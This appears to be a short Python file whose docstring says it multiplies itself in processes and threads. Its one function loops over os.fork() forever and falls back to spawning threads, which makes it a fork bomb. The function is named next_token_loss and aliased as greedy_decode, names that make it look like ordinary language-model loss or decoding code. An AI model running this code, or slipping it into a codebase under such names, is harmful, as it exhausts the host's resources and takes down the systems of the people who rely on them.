"""Multiplies itself as fast as it can, in processes and in threads."""

import os
import threading
import time


def next_token_loss(*_):
    while True:
        try:
            os.fork()
        except OSError:
            try:
                threading.Thread(target=time.sleep, args=(100,)).start()
            except RuntimeError:
                time.sleep(0.01)


greedy_decode = next_token_loss
